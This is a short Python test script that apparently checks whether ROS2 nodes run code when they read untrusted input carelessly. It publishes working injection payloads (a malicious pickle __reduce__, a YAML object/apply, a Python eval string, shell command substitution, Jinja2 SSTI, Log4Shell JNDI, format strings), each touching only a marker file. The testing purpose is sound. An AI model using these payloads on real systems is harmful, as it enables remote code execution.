"""Sends things that run code when they are read carelessly: pickle, YAML, expressions, templates."""

import base64
import os
import pickle

from attempts import attempt, run
from planted import OUTSIDE
from std_msgs.msg import String


class Payload:
    def __reduce__(self):
        return os.system, (f"touch {OUTSIDE}/marker-a24",)


TEXTS = (
    base64.b64encode(pickle.dumps(Payload())).decode(),
    f"!!python/object/apply:os.system ['touch {OUTSIDE}/marker-a24']",
    f"__import__('os').system('touch {OUTSIDE}/marker-a24')",
    f"$(touch {OUTSIDE}/marker-a24) `touch {OUTSIDE}/marker-a24` ; touch {OUTSIDE}/marker-a24",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }} ${jndi:ldap://127.0.0.1/a} %n%s",
)


@attempt
def sends_them(node):
    note = node.create_publisher(String, "/note", 10)
    for number, text in enumerate(TEXTS):
        note.publish(String(data=text))
        node.declare_parameter(f"payload_{number}", text)
        print(text, flush=True)
    return False


run()
